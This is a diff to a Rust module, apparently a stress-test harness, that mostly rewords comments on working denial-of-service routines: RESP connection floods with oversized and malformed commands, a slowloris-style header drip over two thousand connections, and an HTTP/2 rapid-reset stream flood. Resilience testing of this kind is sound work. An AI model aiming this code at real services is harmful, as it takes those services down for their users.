@@ -1,4 +1,4 @@
-//! What clients do that mean harm.
+//! The attacks.
 
 use std::net::SocketAddr;
 use std::time::{Duration, Instant};
@@ -7,7 +7,7 @@ use tokio::net::TcpStream;
 use tokio::task::{JoinHandle, spawn_local};
 use tokio::time::{sleep, timeout_at};
 
-/// A thousand connections that announce more than they send, send more than anybody asked for, or read nothing.
+/// A thousand connections that announce more than they send, exceed the maximum sizes, or read no replies.
 pub(super) async fn bombs(resp: SocketAddr, length: Duration) -> String {
     let until = Instant::now() + length;
     let argument = [b"$8192\r\n".as_slice(), &[b'a'; 8192], b"\r\n"].concat();
@@ -18,9 +18,9 @@ pub(super) async fn bombs(resp: SocketAddr, length: Duration) -> String {
         (b"*1\r\n$-5\r\n".to_vec(), false),
         (b"*1\r\n".repeat(4_000), false),
         (vec![b'a'; 1 << 20], false),
-        // Half a command as large as can be, and then silence.
+        // Half of the largest possible command, then silence.
         (half, false),
-        // Replies that nobody reads.
+        // Replies that are never read.
         (b"INFO\r\n".repeat(2_000), true),
         (argument_echo(), true),
     ];
@@ -38,7 +38,7 @@ fn argument_echo() -> Vec<u8> {
         .repeat(4)
 }
 
-/// Sends the same until it is cut off, connects anew, and says how often.
+/// Sends the same bytes until the connection is closed, reconnects, and returns how often.
 async fn bomb(resp: SocketAddr, bytes: Vec<u8>, again: bool, until: Instant) -> u64 {
     let mut thrown = 0;
     while Instant::now() < until {
@@ -48,7 +48,7 @@ async fn bomb(resp: SocketAddr, bytes: Vec<u8>, again: bool, until: Instant) -> 
         thrown += 1;
         let attack = async {
             while stream.write_all(&bytes).await.is_ok() && again {}
-            // What it says does not matter, only that it hangs up.
+            // The reply does not matter, only the close.
             if !again {
                 let mut received = [0; 512];
                 while stream.read(&mut received).await.is_ok_and(|length| length > 0) {}
@@ -59,7 +59,7 @@ async fn bomb(resp: SocketAddr, bytes: Vec<u8>, again: bool, until: Instant) -> 
     thrown
 }
 
-/// Two thousand connections at a time that send a header's byte now and then; who is cut off comes again.
+/// Two thousand concurrent connections that send a header byte now and then, and reconnect when they are closed.
 pub(super) async fn slow(http: SocketAddr, length: Duration) -> String {
     let until = Instant::now() + length;
     let tasks = (0..2_000).map(|_| {
@@ -72,10 +72,10 @@ pub(super) async fn slow(http: SocketAddr, length: Duration) -> String {
         })
     });
     let cut: u64 = all(tasks.collect()).await;
-    format!("2000 at a time, {cut} cut off")
+    format!("2000 at a time, {cut} closed")
 }
 
-/// Sends a header byte by byte. True if it was cut off before its time.
+/// Sends a header byte by byte. True if the server closed the connection before the end.
 async fn drip(http: SocketAddr, until: Instant) -> bool {
     let Ok(mut stream) = TcpStream::connect(http).await else {
         return false;
@@ -89,7 +89,7 @@ async fn drip(http: SocketAddr, until: Instant) -> bool {
     sent.is_err()
 }
 
-/// One connection that opens streams and takes them back at once, as fast as it can; when it is cut off, the next.
+/// One connection that opens streams and resets them at once, as fast as it can; when it is closed, the next.
 pub(super) async fn resets(http: SocketAddr, length: Duration) -> String {
     let until = Instant::now() + length;
     let (mut streams, mut connections) = (0_u64, 0_u64);
@@ -100,9 +100,9 @@ pub(super) async fn resets(http: SocketAddr, length: Duration) -> String {
         connections += 1;
         let (mut reading, mut writing) = stream.split();
         let attack = async {
-            let mut begun = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-            begun.extend(frame(4, 0, 0, &[]));
-            if writing.write_all(&begun).await.is_err() {
+            let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+            preface.extend(frame(4, 0, 0, &[]));
+            if writing.write_all(&preface).await.is_err() {
                 return;
             }
             for first in (1_u32..).step_by(2 * STREAMS_PER_ROUND as usize) {
@@ -137,7 +137,7 @@ pub(super) async fn resets(http: SocketAddr, length: Duration) -> String {
 
 const STREAMS_PER_ROUND: u32 = 32;
 
-/// A frame of HTTP/2.
+/// An HTTP/2 frame.
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
     let mut bytes: Vec<u8> = length.into_iter().skip(1).collect();
